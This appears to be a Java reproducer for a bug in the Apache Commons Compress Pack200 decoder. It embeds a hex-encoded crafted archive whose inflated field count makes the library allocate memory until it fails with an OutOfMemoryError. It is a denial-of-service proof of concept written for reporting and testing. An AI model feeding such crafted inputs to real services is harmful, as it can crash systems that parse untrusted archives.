import java.io.ByteArrayInputStream;
import java.io.IOException;
import org.apache.commons.compress.compressors.pack200.Pack200CompressorInputStream;

// 119-byte Pack200 archive (one class) whose class_field_count value (offset 87) is replaced by 5 bytes (fe fc fc fc fc)
// decoding to about 2^31; ClassBands then allocates the field_descr band with that many ints before reading any of it
// (the in-memory stream is not bounded, so Codec.check does not apply).
// Expected: Pack200Exception. Actual: OutOfMemoryError at Codec.decodeInts(Codec.java:165).
public class Pack200HugeBandCount {
    static final String HEX = ""
        + "cafed00d0796d5000000000001000107000201010001000000310100000000000306040601102829563c696e69743e48"
        + "4848484d7941747472516a6176612f6c616e672f4f626a65637405010204000200680403000200fefcfcfcfc0200c1fd"
        + "1cc1fdfc7c010203040200e4b1ff000000f0e1d2c4d303";

    public static void main(String[] args) throws Exception {
        byte[] b = new byte[HEX.length() / 2];
        for (int i = 0; i < b.length; i++) {
            b[i] = (byte) Integer.parseInt(HEX.substring(2 * i, 2 * i + 2), 16);
        }
        try (Pack200CompressorInputStream in = new Pack200CompressorInputStream(new ByteArrayInputStream(b))) {
            byte[] buf = new byte[8192];
            while (in.read(buf) > 0) {
                // drain
            }
            System.out.println("no exception");
        } catch (IOException e) {
            System.out.println("IOException (the documented failure): " + e);
        }
    }
}
